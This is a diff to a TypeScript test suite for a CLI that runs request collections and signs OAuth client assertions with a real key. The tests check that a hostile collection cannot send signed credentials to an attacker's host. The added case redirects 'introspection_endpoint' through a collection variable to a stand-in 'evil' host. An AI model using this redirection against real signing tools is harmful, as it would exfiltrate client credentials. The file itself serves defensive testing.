@@ -62,7 +62,7 @@ describe('run signs with the real key', () => {
   const run = async (
     lines: string[],
     request: object = { method: 'GET', url: urlOf(honest, '/x') },
-    extra: object = {},
+    { variable, ...extra }: { variable?: object[]; protocolProfileBehavior?: object } = {},
     signer = ['--signing-key', folder.path('key.pem')],
     test: string[] = [],
   ) => {
@@ -73,6 +73,7 @@ describe('run signs with the real key', () => {
     const collection = {
       info: { name: 'hostile', schema: SCHEMA },
       item: [{ name: 'request', event, request, ...extra }],
+      variable,
     };
     const environment = toEnvironment({ token_endpoint: urlOf(honest, '/token'), client_id: 'c', kid: 'key-1' });
     return runCommand([
@@ -124,6 +125,21 @@ describe('run signs with the real key', () => {
           `pm.environment.set("revocation_endpoint", "${urlOf(evil, '/x')}");`,
           sendTo(urlOf(evil, '/x'), claims(urlOf(honest, '/token'))),
         ],
+      ],
+    ],
+    [
+      'for an endpoint on a host that the collection alone names',
+      /nor an endpoint that your environment names/,
+      () => [
+        [
+          sendTo(
+            urlOf(evil, '/x'),
+            claims(urlOf(honest, '/token')),
+            '{ key: "client_assertion_type", value: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer" }, ',
+          ),
+        ],
+        undefined,
+        { variable: [{ key: 'introspection_endpoint', value: urlOf(evil, '/x') }] },
       ],
     ],
     [
